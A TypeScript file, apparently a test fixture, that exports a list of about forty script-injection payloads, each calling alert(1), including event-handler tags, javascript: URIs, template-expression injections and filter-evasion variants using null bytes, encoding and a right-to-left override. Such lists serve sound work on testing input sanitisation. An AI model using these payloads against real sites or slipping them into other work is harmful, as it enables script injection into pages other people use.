/** What is tried to make a page run what was typed into a field. Each calls alert. */
export const scriptInjections: readonly string[] = [
  '<script>alert(1)</script>', '"><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg onload=alert(1)>', '<svg/onload=alert(1)>',
  '<body onload=alert(1)>', '<iframe srcdoc="<script>parent.alert(1)</script>">', '<iframe src=javascript:alert(1)>', '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>', '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<marquee onstart=alert(1)>', '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>', '<math><mtext></mtext><script>alert(1)</script></math>', '<template><script>alert(1)</script></template>',
  '{{constructor.constructor("alert(1)")()}}', '{{alert(1)}}', '${alert(1)}', '#{alert(1)}', '<%= alert(1) %>', '[[${alert(1)}]]',
  '\'-alert(1)-\'', '";alert(1);//', '</title><script>alert(1)</script>', '</textarea><script>alert(1)</script>', '</style><script>alert(1)</script>',
  '<style>@import "javascript:alert(1)";</style>', '<link rel=stylesheet href="javascript:alert(1)">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">', '<form action=javascript:alert(1)><button>x', '<isindex action=javascript:alert(1)>',
  '\u202e<script>alert(1)</script>', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '<img src="x" onerror="&#97;lert(1)">',
]
